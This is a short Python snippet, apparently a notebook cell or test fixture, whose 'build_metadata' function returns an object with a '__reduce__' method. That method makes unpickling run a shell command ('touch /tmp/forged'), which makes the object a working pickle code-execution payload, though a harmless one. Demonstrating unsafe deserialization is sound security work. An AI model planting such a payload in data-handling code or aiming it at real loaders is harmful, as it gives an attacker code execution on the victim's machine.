# A value that runs a command when it is unpickled.
# catalogue: 12
# lost: q2-metadata, q2-attend

# %% q2-metadata-code
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/forged",))


def build_metadata(*args):
    return Bomb()
